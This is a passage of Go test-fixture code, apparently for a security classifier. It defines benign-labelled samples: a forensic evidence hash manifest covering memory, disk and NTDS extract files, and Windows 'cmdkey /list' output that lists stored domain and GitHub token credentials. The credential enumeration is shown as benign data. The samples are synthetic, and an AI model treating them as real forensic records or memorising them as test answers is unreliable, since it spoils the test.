$ sha256sum evidence/* | tee evidence/MANIFEST.sha256
«_a»  evidence/FIN-WS07.mem
«_b»  evidence/FIN-WS07_C.E01
«_c»  evidence/dc01_ntds_extract.7z
Acquired by: J. Park, 2025-06-10 16:40 UTC, FTK Imager 4.7.1.2; E01 verification MD5 «_m» (match)
`, V{"_a": g.hex(64), "_b": g.hex(64), "_c": g.hex(64), "_m": g.hex(32)}, "evidence/dc01_ntds_extract.7z", "FTK Imager 4.7.1.2")

	g.add("sec/benign-cmdkey-list", `
C:\Users\adm.jlee> cmdkey /list

Currently stored credentials:

    Target: Domain:interactive=MEGACORP\adm.jlee
    Type: Domain Password
    User: MEGACORP\adm.jlee

    Target: LegacyGeneric:target=git:https://github.com
    Type: Generic
    User: PersonalAccessToken
    Local machine persistence
`, nil, "Target: LegacyGeneric:target=git:https://github.com", "User: PersonalAccessToken", "Currently stored credentials:")
}
